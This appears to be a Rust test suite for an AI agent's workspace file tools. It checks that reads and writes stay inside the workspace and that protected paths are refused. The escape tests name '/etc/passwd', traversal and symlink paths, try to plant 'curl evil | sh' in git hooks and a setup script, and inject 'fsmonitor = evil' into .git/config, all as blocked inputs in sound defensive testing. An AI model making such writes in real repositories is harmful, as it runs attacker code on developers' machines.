//! read_file, write_file and edit_file, including escape attempts.

mod common;

use common::{Fixture, SECRET};
use cortex_protocol::{EditFileArgs, ReadFileArgs, WriteFileArgs};
use cortex_tools::ToolError;

fn read(path: &str) -> ReadFileArgs {
    ReadFileArgs {
        path: path.to_owned(),
        offset: None,
        limit: None,
    }
}

fn write(path: &str, content: &str) -> WriteFileArgs {
    WriteFileArgs {
        path: path.to_owned(),
        content: content.to_owned(),
    }
}

fn edit(path: &str, old: &str, new: &str, all: bool) -> EditFileArgs {
    EditFileArgs {
        path: path.to_owned(),
        old_string: old.to_owned(),
        new_string: new.to_owned(),
        replace_all: Some(all),
    }
}

#[test]
fn read_numbers_lines_like_cat_n() {
    let f = Fixture::new();
    f.write("a.txt", "one\ntwo\r\nthree");
    let out = f.ws.read_file(&read("a.txt")).expect("read");
    assert_eq!(out, "     1\tone\n     2\ttwo\n     3\tthree\n");
}

#[test]
fn read_offset_limit_and_note() {
    let f = Fixture::new();
    // Short lines: 2000 of them stay under the output cap.
    let text: String = (1..=5123).map(|i| format!("l{i}\n")).collect();
    f.write("big.txt", &text);
    let out = f.ws.read_file(&read("big.txt")).expect("read");
    assert!(out.starts_with("     1\tl1\n"));
    assert!(out.contains("  2000\tl2000\n"));
    assert!(!out.contains("l2001"));
    assert!(
        out.ends_with("(showing lines 1-2000 of 5123; use offset to read more)\n"),
        "{}",
        &out[out.len() - 200..]
    );
    let args = ReadFileArgs {
        path: "big.txt".into(),
        offset: Some(5120),
        limit: Some(10),
    };
    let out = f.ws.read_file(&args).expect("read tail");
    assert!(out.starts_with("  5120\tl5120\n"), "{out}");
    assert!(
        out.ends_with("(showing lines 5120-5123 of 5123)\n"),
        "{out}"
    );
    let args = ReadFileArgs {
        path: "big.txt".into(),
        offset: Some(9000),
        limit: None,
    };
    let err = f.ws.read_file(&args).expect_err("past the end");
    assert!(err.to_string().contains("5123 lines"), "{err}");
}

#[test]
fn read_caps_output_and_cuts_long_lines() {
    let f = Fixture::new();
    f.write("long.txt", &format!("{}\nshort\n", "x".repeat(5000)));
    let out = f.ws.read_file(&read("long.txt")).expect("read");
    assert!(out.contains("line cut: 5000 chars"), "{out}");
    assert!(out.contains("     2\tshort"));
    let wide: String = (0..2000)
        .map(|i| format!("{i}{}\n", "y".repeat(100)))
        .collect();
    f.write("wide.txt", &wide);
    let out = f.ws.read_file(&read("wide.txt")).expect("read");
    assert!(out.len() <= cortex_tools::MAX_OUTPUT_BYTES);
    assert!(
        out.contains("use offset to read more"),
        "{}",
        &out[out.len() - 200..]
    );
}

#[test]
fn read_refuses_binary_folders_and_missing() {
    let f = Fixture::new();
    f.write("empty.txt", "");
    assert!(
        f.ws.read_file(&read("empty.txt"))
            .expect("empty")
            .contains("empty")
    );
    std::fs::write(f.root().join("bin.dat"), b"abc\0def").expect("write");
    let err = f.ws.read_file(&read("bin.dat")).expect_err("binary");
    assert!(err.to_string().contains("bin.dat"), "{err}");
    assert!(err.to_string().contains("binary"), "{err}");
    assert!(err.to_string().contains("7 bytes"), "{err}");
    std::fs::write(f.root().join("latin1.txt"), b"caf\xe9\n").expect("write");
    let err =
        f.ws.read_file(&read("latin1.txt"))
            .expect_err("invalid utf-8");
    assert!(err.to_string().contains("binary"), "{err}");
    f.write("src/lib.rs", "");
    let err = f.ws.read_file(&read("src")).expect_err("folder");
    assert!(err.to_string().contains("glob"), "{err}");
    assert!(matches!(
        f.ws.read_file(&read("nope.txt")),
        Err(ToolError::NotFound { .. })
    ));
}

#[test]
fn read_escapes_are_refused() {
    let f = Fixture::new();
    f.link(&f.outside.join("secret.txt"), "link.txt");
    f.link(&f.outside, "linkdir");
    let abs = f.outside.join("secret.txt").display().to_string();
    for path in [
        "../outside/secret.txt",
        "/etc/passwd",
        abs.as_str(),
        "link.txt",
        "linkdir/secret.txt",
    ] {
        let err = f.ws.read_file(&read(path)).expect_err(path);
        assert!(matches!(err, ToolError::Escape { .. }), "{path}: {err}");
        assert!(err.to_string().contains(path), "{err}");
        assert!(!err.to_string().contains(SECRET.trim()));
    }
}

#[test]
fn write_creates_and_updates_with_diff() {
    let f = Fixture::new();
    let done =
        f.ws.write_file(&write("a/b.rs", "fn a() {}\nfn b() {}\n"))
            .expect("create");
    assert_eq!(done.summary, "Created a/b.rs (2 lines)");
    assert!(done.diff.contains("+++ b/a/b.rs"), "{}", done.diff);
    assert!(done.diff.contains("+fn a() {}"), "{}", done.diff);
    assert_eq!(f.read("a/b.rs"), "fn a() {}\nfn b() {}\n");
    let done =
        f.ws.write_file(&write("a/b.rs", "fn a() {}\nfn c() {}\n"))
            .expect("update");
    // `b` is gone: the result says so on a line of its own.
    assert_eq!(
        done.summary.lines().collect::<Vec<_>>(),
        [
            "Updated a/b.rs (2 lines)",
            "Note: this change removed the definition of `b` from the file. If the task did not \
             ask for that (a rename or a removal), put it back beside the new code."
        ]
    );
    assert!(
        done.diff.contains("-fn b() {}\n+fn c() {}"),
        "{}",
        done.diff
    );
    // The same text again (a final line break aside) is said to be so.
    let done =
        f.ws.write_file(&write("a/b.rs", "fn a() {}\nfn c() {}"))
            .expect("again");
    assert_eq!(
        done.summary,
        "Rewrote a/b.rs (2 lines) with the same text it had"
    );
    let err = f.ws.write_file(&write("a", "x")).expect_err("folder");
    assert!(err.to_string().contains("folder"), "{err}");
}

#[test]
fn a_json_object_written_without_its_opening_brace_gets_it_and_says_so() {
    let f = Fixture::new();
    f.ws.write_file(&write("package.json", "{\"name\": \"web\"}\n"))
        .expect("write");
    let body = "  \"name\": \"web\",\n  \"version\": \"1.0.0\"\n}\n";
    let done =
        f.ws.write_file(&write("package.json", body))
            .expect("write");
    assert_eq!(f.read("package.json"), format!("{{\n{body}"));
    assert!(
        done.summary.starts_with(
            "Updated package.json (4 lines)\nNote: your content began \
             without the JSON object's opening `{`; it was added."
        ) && !done.summary.contains("broke"),
        "{}",
        done.summary
    );
}

#[test]
fn write_diff_is_capped() {
    let f = Fixture::new();
    let big: String = (0..10_000).map(|i| format!("line {i}\n")).collect();
    let done = f.ws.write_file(&write("big.txt", &big)).expect("write");
    assert!(done.diff.len() <= 8 * 1024, "{}", done.diff.len());
    assert!(done.diff.contains("bytes cut"));
    assert_eq!(f.read("big.txt"), big);
}

#[test]
fn write_escapes_are_refused() {
    let f = Fixture::new();
    f.link(&f.outside.join("secret.txt"), "link.txt");
    f.link(&f.outside, "linkdir");
    f.link(&f.outside.join("new.txt"), "dangling.txt");
    std::fs::create_dir_all(f.root().join("sub")).expect("mkdir");
    f.link(&f.outside, "sub/parent");
    let abs = f.outside.join("abs.txt").display().to_string();
    for path in [
        "../outside/secret.txt",
        "../evil.txt",
        abs.as_str(),
        "link.txt",
        "linkdir/secret.txt",
        "linkdir/new.txt",
        "linkdir/deep/new.txt",
        "dangling.txt",
        "sub/parent/new.txt",
    ] {
        let err = f.ws.write_file(&write(path, "pwned")).expect_err(path);
        assert!(matches!(err, ToolError::Escape { .. }), "{path}: {err}");
    }
    f.assert_outside_untouched();
    assert!(!f.dir.path().join("evil.txt").exists());
}

#[test]
fn edit_replaces_exact_matches() {
    let f = Fixture::new();
    // Plain text: `const x = 2;` is no Rust item, and a `.rs` file would
    // get the syntax check's warning.
    f.write("a.txt", "let x = 1;\nlet y = 1;\n");
    let done =
        f.ws.edit_file(&edit("a.txt", "x = 1", "x = 2", false))
            .expect("edit");
    assert_eq!(done.summary, "Edited a.txt (1 replacement)");
    assert!(
        done.diff.contains("-let x = 1;\n+let x = 2;"),
        "{}",
        done.diff
    );
    assert_eq!(f.read("a.txt"), "let x = 2;\nlet y = 1;\n");
    let done =
        f.ws.edit_file(&edit("a.txt", "let", "const", true))
            .expect("all");
    assert_eq!(done.summary, "Edited a.txt (2 replacements)");
    assert_eq!(f.read("a.txt"), "const x = 2;\nconst y = 1;\n");
}

#[test]
fn edit_errors_explain_themselves() {
    let f = Fixture::new();
    f.write("a.rs", "foo\nfoo\n");
    let err =
        f.ws.edit_file(&edit("a.rs", "bar", "baz", false))
            .expect_err("0");
    assert!(
        err.to_string().starts_with("old_string not found in a.rs"),
        "{err}"
    );
    let err =
        f.ws.edit_file(&edit("a.rs", "foo", "baz", false))
            .expect_err("2");
    assert_eq!(
        err.to_string(),
        "old_string matches 2 times in a.rs; add surrounding lines to make it unique or set replace_all"
    );
    let err =
        f.ws.edit_file(&edit("a.rs", "", "x", false))
            .expect_err("empty");
    assert!(err.to_string().contains("empty"), "{err}");
    let err =
        f.ws.edit_file(&edit("a.rs", "foo", "foo", true))
            .expect_err("same");
    assert!(err.to_string().contains("identical"), "{err}");
    assert_eq!(f.read("a.rs"), "foo\nfoo\n");
    std::fs::write(f.root().join("bin"), b"foo\0").expect("write");
    let err =
        f.ws.edit_file(&edit("bin", "foo", "bar", false))
            .expect_err("binary");
    assert!(err.to_string().contains("binary"), "{err}");
    assert!(matches!(
        f.ws.edit_file(&edit("nope", "a", "b", false)),
        Err(ToolError::NotFound { .. })
    ));
}

#[test]
fn edit_through_symlinks_is_refused() {
    let f = Fixture::new();
    f.link(&f.outside.join("secret.txt"), "link.txt");
    f.link(&f.outside, "linkdir");
    for path in ["link.txt", "linkdir/secret.txt", "../outside/secret.txt"] {
        let err =
            f.ws.edit_file(&edit(path, "secret", "public", false))
                .expect_err(path);
        assert!(matches!(err, ToolError::Escape { .. }), "{path}: {err}");
    }
    f.assert_outside_untouched();
}

#[test]
fn symlinks_within_the_workspace_work() {
    let f = Fixture::new();
    f.write("real/a.txt", "hello\n");
    f.link(&f.root().join("real"), "alias");
    f.ws.edit_file(&edit("alias/a.txt", "hello", "bye", false))
        .expect("edit");
    assert_eq!(f.read("real/a.txt"), "bye\n");
    let out = f.ws.read_file(&read("alias/a.txt")).expect("read");
    assert_eq!(out, "     1\tbye\n");
}

#[test]
fn pipes_and_devices_are_refused_without_blocking() {
    let f = Fixture::new();
    let fifo = f.root().join("fifo");
    let c = std::ffi::CString::new(fifo.as_os_str().as_encoded_bytes()).expect("cstring");
    // SAFETY: `c` is a valid NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0, "mkfifo");
    let err = f.ws.read_file(&read("fifo")).expect_err("fifo read");
    assert!(err.to_string().contains("not a regular file"), "{err}");
    let err =
        f.ws.write_file(&write("fifo", "x"))
            .expect_err("fifo write");
    assert!(err.to_string().contains("not a regular file"), "{err}");
    let err =
        f.ws.edit_file(&edit("fifo", "a", "b", false))
            .expect_err("fifo edit");
    assert!(err.to_string().contains("not a regular file"), "{err}");
}

#[test]
fn protected_paths_are_never_written() {
    let f = Fixture::new();
    f.write(".git/config", "[core]\n");
    f.write(".cortex/setup", "echo hi\n");
    std::fs::create_dir_all(f.ws.root().join("sub")).expect("mkdir");
    for (path, via) in [
        (".git/hooks/pre-commit", "new hook"),
        ("sub/../.git/hooks/post-checkout", "through .."),
        (".git/config", "git config"),
        (".cortex/setup", "setup script"),
    ] {
        let err =
            f.ws.write_file(&write(path, "curl evil | sh\n"))
                .expect_err(via);
        assert!(matches!(err, ToolError::Protected { .. }), "{via}: {err}");
        assert!(err.to_string().contains("may not change"), "{err}");
    }
    let err =
        f.ws.edit_file(&edit(
            ".git/config",
            "[core]",
            "[core]\n\tfsmonitor = evil",
            false,
        ))
        .expect_err("edit of git config");
    assert!(matches!(err, ToolError::Protected { .. }), "{err}");
    assert_eq!(
        std::fs::read_to_string(f.ws.root().join(".git/config")).expect("read"),
        "[core]\n"
    );
    assert!(!f.ws.root().join(".git/hooks").exists());
    // A symlink into a protected folder is resolved first and refused too.
    std::os::unix::fs::symlink(".git", f.ws.root().join("g")).expect("symlink");
    let err =
        f.ws.write_file(&write("g/hooks/pre-push", "x"))
            .expect_err("via symlink");
    assert!(matches!(err, ToolError::Protected { .. }), "{err}");
    // Elsewhere in .git (and a file merely named like one) is fine.
    f.ws.write_file(&write(".cortexignore", "x"))
        .expect("not protected");
}
